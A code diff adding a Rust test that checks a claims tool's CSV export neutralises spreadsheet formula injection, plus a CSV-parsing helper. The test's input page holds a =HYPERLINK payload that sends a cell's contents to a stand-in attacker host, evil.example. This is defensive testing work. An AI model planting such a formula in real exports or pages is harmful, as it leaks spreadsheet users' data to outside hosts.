@@ -228,3 +228,73 @@ fn annotated_sources_round_trip_through_toml() {
         .code(2)
         .stderr(predicate::str::contains("--output DIR"));
 }
+
+#[test]
+fn the_spreadsheet_export_keeps_a_pages_words_from_running_as_formulas() {
+    let t = TestDir::new();
+    let page = t.titled_page(
+        "injected.html",
+        "Injected",
+        "<p>Officials said =HYPERLINK(\"http://evil.example/?x=\"&amp;A1,\"click\") was the plan.</p>\
+         <p>The ministry said exports to Brazil doubled in 2024.</p>",
+    );
+    t.cmd()
+        .args(["ingest", "--quiet", "--url", "https://example.org/inj"])
+        .arg(&page)
+        .assert()
+        .success();
+    let out = t
+        .cmd()
+        .args(["export", "--format", "csv"])
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    let mut reader = csv_rows(&out.stdout);
+    let header = reader.remove(0);
+    let claim = header.iter().position(|h| h == "claim").unwrap();
+    let quote = header.iter().position(|h| h == "quote").unwrap();
+    let formula = reader
+        .iter()
+        .find(|r| r[claim].contains("HYPERLINK"))
+        .expect("the claim is exported");
+    assert!(formula[claim].starts_with("'=HYPERLINK("), "{formula:?}");
+    assert!(formula[quote].starts_with("'=HYPERLINK("), "{formula:?}");
+    // Other cells are as stored.
+    let plain = reader
+        .iter()
+        .find(|r| r[claim].contains("exports to Brazil"))
+        .expect("the other claim is exported");
+    assert_eq!(plain[claim], "exports to Brazil doubled in 2024.");
+    // SPARQL results as CSV stay the standard format.
+    let out = t
+        .cmd()
+        .args(["query", "--name", "claims-table", "--format", "csv"])
+        .output()
+        .unwrap();
+    assert!(String::from_utf8_lossy(&out.stdout).contains(",\"=HYPERLINK("));
+}
+
+/// The rows of a CSV text, each a list of cells (quotes undone).
+fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
+    let text = String::from_utf8_lossy(bytes);
+    let mut rows = vec![Vec::new()];
+    let (mut cell, mut quoted, mut chars) = (String::new(), false, text.chars().peekable());
+    while let Some(c) = chars.next() {
+        match (c, quoted) {
+            ('"', true) if chars.peek() == Some(&'"') => {
+                cell.push('"');
+                chars.next();
+            }
+            ('"', _) => quoted = !quoted,
+            (',', false) => rows.last_mut().unwrap().push(std::mem::take(&mut cell)),
+            ('\r', false) => {}
+            ('\n', false) => {
+                rows.last_mut().unwrap().push(std::mem::take(&mut cell));
+                rows.push(Vec::new());
+            }
+            _ => cell.push(c),
+        }
+    }
+    rows.retain(|r| !r.is_empty());
+    rows
+}
